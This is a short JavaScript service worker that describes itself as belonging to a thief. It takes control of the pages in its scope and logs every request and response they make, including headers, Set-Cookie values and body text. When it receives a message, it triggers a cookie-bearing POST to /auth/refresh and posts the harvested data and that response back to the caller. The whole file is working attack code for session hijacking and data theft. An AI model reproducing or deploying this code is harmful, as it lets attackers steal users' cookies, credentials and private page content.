// A service worker of the thief's: it is there on every visit, and sees what the pages in its scope ask for.
self.seen = []
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', event => event.waitUntil(clients.claim()))
self.addEventListener('fetch', event => {
    event.respondWith((async () => {
        const {request} = event
        const answer = await fetch(request)
        self.seen.push(JSON.stringify({
            url: request.url, sent: [...request.headers], got: [...answer.headers],
            cookies: answer.headers.getSetCookie?.() ?? [], text: await answer.clone().text().catch(() => ''),
        }))
        return answer
    })())
})
self.addEventListener('message', async event => {
    // Without any page's help: the browser adds the cookies.
    const answer = await fetch('/auth/refresh', {method: 'POST'})
    event.source.postMessage({seen: self.seen, own: [answer.status, await answer.text()]})
})
